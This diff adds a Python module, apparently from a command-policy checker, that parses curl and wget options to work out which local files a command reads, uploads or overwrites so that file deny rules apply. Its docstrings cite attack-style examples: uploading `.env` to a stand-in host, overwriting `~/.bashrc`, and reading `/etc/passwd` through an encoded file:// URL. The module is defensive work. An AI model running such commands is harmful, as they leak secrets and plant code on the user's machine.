@@ -1,0 +1,235 @@
+"""curl and wget: the files they send and the files they save.
+
+`curl -d @.env https://x` uploads `.env`, and `curl -o ~/.bashrc URL` or
+`wget -O ~/.bashrc URL` overwrites `~/.bashrc`: a deny on reading the one
+or editing the other never saw them. The files their options name are read
+and edit subjects, held to those tools' deny and ask rules only, as the
+files a reader or writer names are (`programs.FILE_READERS`). What `-O`,
+and wget by default, save is a file whose name the server picks, in the
+output folder: that folder's ANY_FILE.
+
+Only the options that name files are looked for; a word equal to one of
+them is read as it wherever it stands (a stricter reading, never a looser
+one). curl's config file (`-K`) names options policyc cannot see: refused.
+"""
+
+from __future__ import annotations
+
+from .words import ANY_FILE, SplitError
+
+# curl 7.8x and 8: short options that take a value (the rest of the word, or
+# the next one), and the long options that name a file, by what they do.
+_CURL_SHORT_VALUES = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")
+_CURL_LONG_VALUES = frozenset(
+    """--data --data-ascii --data-binary --data-raw --data-urlencode --json --form
+    --form-string --upload-file --config --output --dump-header --cookie-jar --cookie
+    --trace --trace-ascii --stderr --libcurl --header --proxy-header --write-out
+    --netrc-file --etag-compare --etag-save --cert --key --cacert --output-dir --hsts
+    --alt-svc --user-agent --request --user --proxy --referer --max-time --range
+    --connect-timeout --retry --url""".split()
+)
+_CURL_SENDS_AT = frozenset({"-d", "--data", "--data-ascii", "--data-binary", "--json"})
+_CURL_SENDS_AT |= {"-H", "--header", "--proxy-header", "-w", "--write-out"}
+_CURL_READS = frozenset({"-T", "--upload-file", "--netrc-file", "--etag-compare"})
+_CURL_READS |= {"-E", "--cert", "--key", "--cacert"}
+_CURL_WRITES = frozenset({"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar"})
+_CURL_WRITES |= {"--trace", "--trace-ascii", "--stderr", "--libcurl", "--etag-save"}
+_CURL_BOTH = frozenset({"--hsts", "--alt-svc"})  # read, then written back
+
+
+def _file_url_path(url: str) -> str:
+    """The local file a `file://[HOST]/PATH` URL names, decoded as curl does
+    (`file:///etc/%70asswd` is /etc/passwd)."""
+    from urllib.parse import unquote  # here: most commands hold no such URL
+
+    _, slash, path = url[7:].partition("/")
+    return unquote(slash + path) or "/"
+
+
+def _curl_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
+    reads: list[str] = []
+    writes: list[str] = []
+    options: list[tuple[str, str]] = []
+    remote_name = False
+    i, n = 1, len(words)
+    while i < n:
+        word = words[i]
+        i += 1
+        if word[:2] == "--":
+            if word in ("--remote-name", "--remote-name-all"):
+                remote_name = True
+            elif word == "--netrc":
+                reads.append("~/.netrc")
+            elif word in _CURL_LONG_VALUES and i < n:
+                options.append((word, words[i]))
+                i += 1
+        elif word[:1] == "-" and len(word) > 1:
+            for k in range(1, len(word)):
+                letter = word[k]
+                if letter in _CURL_SHORT_VALUES:
+                    value = word[k + 1 :] or (words[i] if i < n else "")
+                    i += 0 if word[k + 1 :] else 1
+                    options.append(("-" + letter, value))
+                    break
+                remote_name = remote_name or letter == "O"
+                if letter == "n":
+                    reads.append("~/.netrc")
+        elif word[:7].lower() == "file://":
+            reads.append(_file_url_path(word))
+    output_dir = next((v for o, v in reversed(options) if o == "--output-dir"), "")
+    for option, value in options:
+        if not value or value == unknown or value in ("-", "@-"):
+            continue
+        if option in ("-K", "--config"):
+            raise SplitError(
+                f"curl {option} {value} (a config file) cannot be evaluated statically"
+            )
+        if option == "--url" and value[:7].lower() == "file://":
+            reads.append(_file_url_path(value))
+        elif option in _CURL_SENDS_AT and value[:1] == "@":
+            reads.append(value[1:])
+        elif option == "--data-urlencode":
+            name, at, path = value.partition("@")
+            if at and "=" not in name and path != "-":
+                reads.append(path)
+        elif option in ("-F", "--form"):
+            content = value.partition("=")[2]
+            if content[:1] in ("@", "<") and content[1:2] != "-":
+                reads.append(content[1:].partition(";")[0])
+        elif option in ("-b", "--cookie") and "=" not in value:
+            reads.append(value)  # a cookie file
+        elif option in _CURL_READS:
+            reads.append(value)
+        elif option in _CURL_WRITES:
+            joined = output_dir and value[:1] not in ("/", "~") and option in ("-o", "--output")
+            writes.append(output_dir.rstrip("/") + "/" + value if joined else value)
+        elif option in _CURL_BOTH:
+            reads.append(value)
+            writes.append(value)
+    if remote_name:
+        writes.append((output_dir or ".").rstrip("/") + "/" + ANY_FILE)
+    return reads, writes
+
+
+# GNU wget 1.2x: short options that take a value (`-nv` is -n's `v`), the
+# long ones that name a file, and the wgetrc commands `-e` may give that do.
+_WGET_SHORT_VALUES = frozenset("oaiOPeBtTwQUlARDXIn")
+_WGET_FILES = {
+    "-o": "w",
+    "--output-file": "w",
+    "-a": "w",
+    "--append-output": "w",
+    "-i": "r",
+    "--input-file": "r",
+    "-O": "o",
+    "--output-document": "o",
+    "-P": "d",
+    "--directory-prefix": "d",
+    "--post-file": "r",
+    "--body-file": "r",
+    "--load-cookies": "r",
+    "--save-cookies": "w",
+    "--warc-file": "w",
+    "--rejected-log": "w",
+    "--certificate": "r",
+    "--private-key": "r",
+    "--ca-certificate": "r",
+    "--hsts-file": "r",
+    "--config": "r",
+}
+_WGETRC_FILES = {
+    "outputdocument": "-O",
+    "dirprefix": "-P",
+    "logfile": "-o",
+    "savecookies": "--save-cookies",
+    "loadcookies": "--load-cookies",
+    "warcfile": "--warc-file",
+    "postfile": "--post-file",
+    "bodyfile": "--body-file",
+    "input": "-i",
+}
+_WGET_SAVES_NOTHING = frozenset({"--spider", "-h", "--help", "-V", "--version"})
+
+
+def _wget_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
+    options: list[tuple[str, str]] = []
+    saves = True
+    i, n = 1, len(words)
+    while i < n:
+        word = words[i]
+        i += 1
+        if word[:2] == "--":
+            name, eq, value = word.partition("=")
+            saves = saves and name not in _WGET_SAVES_NOTHING
+            if name in _WGET_FILES or name == "--execute":
+                if not eq:
+                    value = words[i] if i < n else ""
+                    i += 1
+                options.append((name, value))
+        elif word[:1] == "-" and len(word) > 1:
+            saves = saves and word not in _WGET_SAVES_NOTHING
+            for k in range(1, len(word)):
+                if word[k] in _WGET_SHORT_VALUES:
+                    value = word[k + 1 :] or (words[i] if i < n else "")
+                    i += 0 if word[k + 1 :] else 1
+                    options.append(("-" + word[k], value))
+                    break
+    reads: list[str] = []
+    writes: list[str] = []
+    folder, document = ".", None
+    for option, value in options:
+        if option in ("-e", "--execute"):  # a wgetrc command: `output_document = x`
+            command, eq, setting = value.partition("=")
+            option = _WGETRC_FILES.get(
+                command.strip().replace("_", "").replace("-", "").lower(), ""
+            )
+            value = setting.strip() if eq else ""
+        kind = _WGET_FILES.get(option)
+        if kind is None or not value or value == unknown:
+            continue
+        if kind == "r":
+            reads.append(value)
+        elif kind == "w":
+            writes.append(value)
+        elif kind == "d":
+            folder = value
+        elif value != "-":  # -O: one file for all, `-` the output
+            document = value
+        else:
+            document = ""
+    if document:
+        writes.append(document)
+    elif document is None and saves:
+        writes.append(folder.rstrip("/") + "/" + ANY_FILE)  # named by the server
+    return reads, writes
+
+
+TRANSFERS = {"curl": _curl_files, "wget": _wget_files}
+
+
+def transfer_files(program: str, words: list[str], unknown: str) -> tuple[list[str], list[str]]:
+    """The files curl or wget reads and writes, as its words name them; a
+    word `unknown` (one with a variable) names none that is known."""
+    return TRANSFERS[program](words, unknown)
+
+
+def may_name_files(program: str, words: list[str]) -> bool:
+    """Whether the plain path must leave a curl or wget command to the
+    general one: wget saves files unless told not to, and curl names one
+    with an option or a file:// URL."""
+    if program == "wget":
+        return True
+    for word in words[1:]:
+        if word[:2] == "--":
+            if word in _CURL_LONG_VALUES or word in (
+                "--remote-name",
+                "--remote-name-all",
+                "--netrc",
+            ):
+                return True
+        elif word[:1] == "-":
+            if not _CURL_SHORT_VALUES.isdisjoint(word[1:]) or "O" in word or "n" in word:
+                return True
+        elif word[:7].lower() == "file://":
+            return True
+    return False
